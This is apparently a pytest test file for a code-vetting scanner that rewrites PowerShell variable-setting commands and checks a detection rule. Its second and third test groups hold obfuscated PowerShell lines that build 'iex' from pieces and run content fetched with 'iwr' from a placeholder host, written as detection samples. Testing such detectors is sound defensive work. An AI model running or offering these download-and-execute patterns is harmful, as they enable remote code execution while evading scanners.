"""Variables of PowerShell that commands set and give, and those of the environment."""

import pytest

from tests.vetting.domain.code.building.test_files import grows_as_its_text
from tests.vetting.domain.signals.looking import side
from vetting.domain.code.shell_powershell_setting import as_assigned
from vetting.domain.signals.code import RULES
from vetting.domain.signals.interface import FileUnderScan
from vetting.domain.signals.scan import scan


@pytest.mark.parametrize(
    ("written", "expected"),
    [
        ("Set-Variable -Name x -Value 'a'", "$x = 'a'"),
        ("sv x a; nv -va ('a'+'b') -n 'y' -Force; c", "$x = 'a'; $y = ('a'+'b'); c"),
        ("{ New-Variable script:x $y -Scope Global -Option a, b -PassThru:$true }", "{ $x = $y }"),
        ("Set-Variable -Name:x -Value:@('a', 'b') | c", "$x = @('a', 'b') | c"),
        ("sv x (a 'b)' \"c`\")\").Replace('d','e')", "$x = (a 'b)' \"c`\")\").Replace('d','e')"),
        ("Microsoft.PowerShell.Utility\\Set-Variable x it''s", "$x = 'it''''s'"),
        ("Set-Item env:x a; si -Path Variable:\\y -Value b", "$env:x = 'a'; $y = 'b'"),
        ("& (Get-Variable -Name 'x').Value (gv y -ValueOnly) (gi Env:z).value", "& $x $y $Env:z"),
        ("sv x (sv y a)", "$x = (sv y a)"),
        ("sv x", "sv x"),
        ("sv $x a", "sv $x a"),
        ("sv x (a", "sv x (a"),
        ("Set-Item x a; gi x; sv", "Set-Item x a; gi x; sv"),
        ("a-sv x b set-variables x b; (gv x).Name", "a-sv x b set-variables x b; (gv x).Name"),
    ],
)
def test_a_command_that_sets_a_variable_is_written_as_one(written: str, expected: str) -> None:
    """Where its name is plain; what is anything else, or never closed, stays as it is."""
    assert as_assigned(written) == expected


@pytest.mark.parametrize(
    "source",
    [
        "$env:x = 'ie' + 'x'\n& $env:x (iwr http://demo.example.invalid)\n",
        "${env:X}='ie'+'x'; & ${ENV:x} (iwr http://demo.example.invalid)\n",
        "$Env:p = iwr http://demo.example.invalid\niex $env:p\n",
        "$env:a='i'; $env:b='ex'; & \"$env:a$env:b\" (iwr http://demo.example.invalid)\n",
        "Set-Variable -Name x -Value ('ie' + 'x')\n& $x (iwr http://demo.example.invalid)\n",
        "nv x iex; & (gv x -ValueOnly) (iwr http://demo.example.invalid)\n",
        "sv p (iwr http://demo.example.invalid)\niex $p\n",
        "$x = 'Write-Output'; sv x iex\n& $x (iwr http://demo.example.invalid)\n",
        "Set-Item -Path env:x -Value iex\n& $env:x (iwr http://demo.example.invalid)\n",
    ],
)
def test_what_it_holds_is_followed(source: str) -> None:
    """To what runs it, as what is set by a sign is."""
    scanned = scan(FileUnderScan(None, side("x.ps1", source.encode())), RULES)
    assert ("C3", "high") in [(one.rule, one.severity.value) for one in scanned.findings]


@pytest.mark.parametrize(
    "source",
    [
        "$env:x = 'Write-Output'\n& $env:x (iwr http://demo.example.invalid)\n",
        "$env:x = 'iex'\n& $x (iwr http://demo.example.invalid)\n",
        "sv x iex; $x = 'Write-Output'\n& $x (iwr http://demo.example.invalid)\n",
    ],
)
def test_what_holds_something_else_runs_nothing(source: str) -> None:
    """The environment is not the script, and what was set last counts."""
    scanned = scan(FileUnderScan(None, side("x.ps1", source.encode())), RULES)
    assert "C3" not in [one.rule for one in scanned.findings]


@pytest.mark.parametrize(
    "part", ["sv x ", "(sv x ", "(sv $a 'b') ", ";sv x a", "(gv ", "sv x a,", "(gv x", ";sv -n ", "sv x ('", ";sv $@"]
)
def test_the_time_grows_as_the_line_does(part: str) -> None:
    """However many commands stand within each other."""
    assert grows_as_its_text(lambda size: as_assigned(part * size + ".value"))
